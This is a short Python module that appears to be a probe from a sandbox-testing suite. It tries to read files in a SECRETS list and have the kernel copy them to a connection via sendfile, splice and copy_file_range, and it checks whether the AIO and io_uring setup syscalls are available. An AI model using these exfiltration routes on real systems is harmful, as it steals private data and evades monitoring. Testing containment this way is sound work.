"""Has the kernel copy private files: sendfile, splice, copy_file_range, AIO, readahead."""
from kit import SECRETS, attempts, connection, libc, os, pays, secrets_in


def by_kernel(path, call):
    return call(os.open(path, os.O_RDONLY), connection())


WAYS = [
    lambda source, target: os.sendfile(target, source, 0, 2**10),
    lambda source, target: os.splice(source, target, 2**10),
    lambda source, target: os.copy_file_range(source, target, 2**10),
]


@pays
def double():
    found = attempts(lambda w=w, p=p: by_kernel(p, w) for w in WAYS for p in SECRETS)
    return found + attempts(lambda n=n: 0 <= libc().syscall(n, 8, bytes(8)) for n in (206, 425))
